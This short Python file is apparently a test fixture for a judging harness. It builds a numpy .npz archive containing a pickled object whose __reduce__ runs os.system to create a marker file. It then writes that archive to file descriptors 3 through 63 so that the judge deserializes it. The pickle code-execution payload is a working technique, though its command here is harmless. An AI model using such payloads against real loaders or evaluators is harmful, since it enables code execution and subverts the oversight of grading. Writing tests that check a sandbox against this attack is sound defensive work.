"""Hands over an archive whose array is a pickle that would run a command in the judge."""

import io
import os
import struct

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/orbit-pickle-was-run",)


def run_solution(config):
    stream = io.BytesIO()
    np.savez(stream, value=np.array([Payload()], dtype=object))
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<BQ", 3, len(stream.getvalue())) + stream.getvalue())
        except OSError:
            pass
    return {"value": 1.0}
